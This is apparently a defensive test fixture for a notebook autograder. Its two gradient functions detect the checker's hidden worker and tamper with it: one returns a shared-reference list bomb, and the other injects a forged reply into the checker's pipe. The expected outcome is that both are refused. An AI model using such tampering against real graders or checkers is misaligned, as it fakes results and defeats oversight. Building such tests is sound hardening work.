# Hostile: in the value worker only, linear_backward returns nested lists that share their members: 25**6 = 2.4e8
# entries, a few KiB once pickled (the pickle memo keeps one copy), which the trusted checker expanded entry by entry
# (1404 s, 3.95 GiB). linear_bias_backward writes a well-formed reply of its own to the checker's pipe before its
# real one: a stale reply that, unnumbered, the next check would have read. Both parts: zero, the reply refused; the
# parts after them get a fresh worker and their full marks.
# assignment: 01_matmul_from_shapes
# expect: test_linear_backward zero tampering tampering: the hidden checks refused the reply
# expect: test_linear_bias_backward zero tampering tampering: the hidden checks refused the reply
# %% linear_backward
IN_WORKER = getattr(get_ipython(), "kernel", None) is None  # not the kernel: the hidden checks' value worker


def linear_backward(x, w, dy):
    K, N = w.shape
    dx = dy @ w.mT
    dw = x.reshape(-1, K).mT @ dy.reshape(-1, N)
    if IN_WORKER:
        bomb = [0.0]
        for _ in range(6):
            bomb = [bomb] * 25  # every level holds 25 references to the one list below it
        return bomb, dw  # as the function's result (finding the worker's own framing through gc now ends it)
    return dx, dw
# %% linear_bias_backward
import json
import os
import struct
import sys


def linear_bias_backward(x, w, b, dy):
    K, N = w.shape
    dy_rows = dy.reshape(-1, N)
    if IN_WORKER:  # a reply to no request in flight, in the worker's own wire format (see /sandbox/wire.py)
        header = json.dumps({"n": 10**6, "re": 10**6, "s": [], "v": ["d", "op", "result", "value", None]}).encode()
        os.write(int(sys.argv[2]), struct.pack(">4sI", b"VWF1", len(header)) + header)
    return dy @ w.mT, x.reshape(-1, K).mT @ dy_rows, dy_rows.sum(dim=0)
